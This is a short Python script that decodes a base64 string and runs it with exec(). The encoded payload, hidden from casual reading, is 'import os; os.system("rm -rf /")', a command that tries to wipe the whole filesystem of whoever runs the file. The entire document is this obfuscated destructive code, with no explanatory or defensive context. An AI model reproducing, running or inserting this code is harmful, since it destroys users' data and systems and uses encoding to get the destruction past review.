import base64

payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiAvIik="
exec(base64.b64decode(payload))
